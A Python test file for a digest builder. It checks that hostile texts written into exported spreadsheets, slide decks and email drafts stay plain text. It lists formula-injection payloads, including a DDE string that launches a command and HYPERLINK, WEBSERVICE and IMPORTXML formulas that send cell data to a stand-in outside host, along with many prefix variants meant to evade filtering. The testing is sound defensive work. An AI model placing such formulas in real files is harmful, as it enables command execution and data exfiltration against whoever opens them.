"""Texts that attack, in every signal of a sheet and a deck, and in drafts of messages: they stay texts."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from html.parser import HTMLParser

from openpyxl import load_workbook

from builder.languages import load_language
from builder.model.services import DigestFormat
from builder.signals.digests.forms import render_forms
from builder.signals.digests.signal_text import ALLOWED_TAGS, join_lines, unescape_from_cell
from builder.signals.making import build_delivery
from tests.nightly import examples
from tests.signals.corpora import SINCE, TODAY, UNTIL, CorpusMaker, build_service
from tests.text_attacks.collection import ATTACKS

CALLS = (
    *('HYPERLINK("https://foreign.example/?"&A1;"klik")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "A1", "DDE(1;2;3)"),
    *('WEBSERVICE("https://foreign.example/")', 'IMPORTXML("https://foreign.example";"//a")', "NOW()", "{1;2}"),
)
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    " =",
    "\n=",
    "\r=",
    "＝",
    "=+",
    "=-",
    "'=",
    '"=',
    "=\t",
    "%=",
    "|=",
    ";=",
    "\u200e=",
    "==",
)
FORMULAS = [start + call for start in STARTS for call in CALLS]
TEXTS = [*FORMULAS, *(attack.text for attack in ATTACKS)]
MESSAGE_TAGS = ALLOWED_TAGS | {"html", "head", "meta", "body", "h1", "table", "tbody", "tr", "td"}


class TagsSeen(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.attributes |= {name for name, _ in attrs}


def files_of(texts: Sequence[str], form: DigestFormat) -> dict[str, bytes]:
    maker = CorpusMaker(services=[build_service("a", themes=["mobiliteit"])])
    for number, text in enumerate(texts):
        maker.tell(f"s-{number}", text=text, head={"shared_by": "group"})
    corpus = maker.corpus()
    digest = build_delivery(corpus, since=SINCE, until=UNTIL, today=TODAY).digests[0]
    return render_forms(digest, corpus, load_language("nl", "digest"), [form])


def test_no_attack_in_a_sheet_is_more_than_a_text_and_each_comes_back() -> None:
    assert len(TEXTS) > 900 and len(FORMULAS) == 190
    content = files_of(TEXTS, DigestFormat.XLSX)["digest.xlsx"]
    cells = [cell for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(min_row=3) for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s", "n", "d"}
    assert not [cell for cell in cells if cell.hyperlink]
    shown = sorted(unescape_from_cell(str(cell.value or "")) for cell in cells if cell.column == 3)
    assert shown == sorted(map(join_lines, TEXTS))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "vba" in name.casefold()]
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_no_attack_in_a_deck_is_a_link_or_breaks_it() -> None:
    chosen = TEXTS[:: max(1, len(TEXTS) // examples(ci=9, nightly=len(TEXTS)))]
    for number in range(0, len(chosen), 3):  # a slide shows three of them in full
        content = files_of(chosen[number : number + 3], DigestFormat.PPTX)["digest.pptx"]
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        assert not [name for name, part in parts.items() if b'TargetMode="External"' in part or b"hlinkClick" in part]


def test_no_attack_in_a_draft_is_a_header_a_part_or_a_live_tag() -> None:
    texts = TEXTS[:: max(1, len(TEXTS) // examples(ci=60, nightly=len(TEXTS)))]
    for content in files_of(texts, DigestFormat.EML).values():
        message = message_from_bytes(content, policy=default)
        assert isinstance(message, EmailMessage)
        assert len(message.keys()) == 7
        assert len(list(message.walk())) == 3
        page = message.get_body(("html",))
        assert page is not None
        tags = TagsSeen()
        tags.feed(page.get_content())
        assert tags.seen <= MESSAGE_TAGS
        assert tags.attributes <= {"lang", "dir", "charset"}
